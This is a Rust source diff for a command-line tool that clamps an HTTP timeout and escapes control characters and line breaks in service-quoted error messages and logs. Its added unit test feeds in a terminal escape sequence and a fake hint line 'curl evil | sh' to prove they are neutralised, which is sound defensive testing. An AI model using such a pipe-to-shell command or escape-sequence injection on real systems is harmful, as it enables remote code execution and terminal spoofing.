@@ -16,8 +16,13 @@ use crate::error::{Error, Result};
 use crate::http::{Http, HttpPolicy};
 use crate::settings::{Settings, Terminals};
 use crate::ui::browser::{NoBrowser, SystemBrowser};
+use crate::ui::printable::{one_line, printable, PrintableWriter};
 use crate::ui::prompt::{NoPrompter, TerminalPrompter};
 use crate::ui::{Ui, UiMode};
+
+/// The largest `ADO_SCM_HTTP_TIMEOUT` honoured (an hour); a larger one is clamped to it, as
+/// a zero one is raised to one second.
+pub const MAX_HTTP_TIMEOUT_SECS: u64 = 3600;
 
 pub struct Io {
     /// Ctrl-C handling, installed by `main`.
@@ -30,9 +35,22 @@ pub struct Io {
 
 pub fn run(args: Vec<OsString>, env: Env, io: Io) -> i32 {
     let json_requested = args.iter().any(|a| a == "--json");
+    if let Err(err) = env.check_readable() {
+        let mode = UiMode {
+            json: json_requested,
+            ..UiMode::default()
+        };
+        return report(&Ui::new(mode, io.stdout, io.stderr), &err);
+    }
     let cli = match Cli::try_parse_from(&args) {
         Ok(cli) => cli,
-        Err(err) => return usage_error(err, json_requested, io),
+        Err(err) => {
+            return usage_error(
+                crate::cli::suggest::corrected(err, &args),
+                json_requested,
+                io,
+            )
+        }
     };
     let Io {
         stdin,
@@ -54,10 +72,13 @@ pub fn run(args: Vec<OsString>, env: Env, io: Io) -> i32 {
     };
     init_logging(cli.global.verbose, cli.global.quiet, &env);
     let ui = Ui::new(settings.mode, stdout, stderr);
+    for warning in &settings.warnings {
+        ui.warn(warning);
+    }
     let deps = match real_deps(&settings, env, ui, stdin, interrupt) {
         Ok(deps) => deps,
         Err(err) => {
-            eprintln!("error: {err}");
+            eprintln!("error: {}", printable(&shown(&err)));
             return err.exit_code();
         }
     };
@@ -88,7 +109,7 @@ fn real_deps(
         .get("ADO_SCM_HTTP_TIMEOUT")
         .and_then(|v| v.parse::<u64>().ok())
     {
-        policy.timeout = Duration::from_secs(secs.max(1));
+        policy.timeout = Duration::from_secs(secs.clamp(1, MAX_HTTP_TIMEOUT_SECS));
     }
     let http = Http::new(clock.clone(), policy)?;
     let prompter: Box<dyn Prompter> = if settings.mode.interactive {
@@ -116,9 +137,24 @@ fn real_deps(
 /// Prints the error the way the contract says (first stderr line says what is wrong; with
 /// `--json` one error document on stdout) and returns its exit code.
 fn report(ui: &Ui, err: &Error) -> i32 {
-    ui.error(err.to_string());
+    ui.error(shown(err));
     ui.json(&err.to_json());
     err.exit_code()
+}
+
+/// The error as people read it. Its message, causes and hint are one line each and often quote
+/// a service: a line break or control character in them is shown, not obeyed, so it cannot
+/// fake a line of ours ("hint: …") or drive the terminal. The layout between them is ours.
+fn shown(err: &Error) -> String {
+    let mut clean = err.clone();
+    clean.message = one_line(&err.message).into_owned();
+    clean.causes = err
+        .causes
+        .iter()
+        .map(|c| one_line(c).into_owned())
+        .collect();
+    clean.hint = err.hint.as_deref().map(|h| one_line(h).into_owned());
+    clean.to_string()
 }
 
 fn usage_error(err: clap::Error, json: bool, io: Io) -> i32 {
@@ -161,9 +197,31 @@ fn init_logging(verbose: u8, quiet: bool, env: &Env) {
     };
     let _ = tracing_subscriber::fmt()
         .with_env_filter(filter)
-        .with_writer(std::io::stderr)
+        .with_writer(|| PrintableWriter(std::io::stderr()))
         .with_target(false)
         .without_time()
         .with_ansi(false)
         .try_init();
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_error_quoting_a_service_cannot_fake_lines_or_drive_the_terminal() {
+        let err =
+            Error::service("Gitpod API: runner \x1b]0;owned\x07 failed\n\nhint: curl evil | sh")
+                .caused_by("HTTP 500:\r\u{9b}2J body")
+                .with_hint("try again");
+        let text = shown(&err);
+        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
+        // Our own layout: the message line, one cause, one hint, nothing more.
+        assert_eq!(text.lines().filter(|l| l.starts_with("hint:")).count(), 1);
+        assert_eq!(
+            text,
+            "Gitpod API: runner \\u{1b}]0;owned\\u{7} failed\\u{a}\\u{a}hint: curl evil | sh\n\n\
+             Caused by:\n  HTTP 500:\\u{d}\\u{9b}2J body\n\nhint: try again"
+        );
+    }
 }
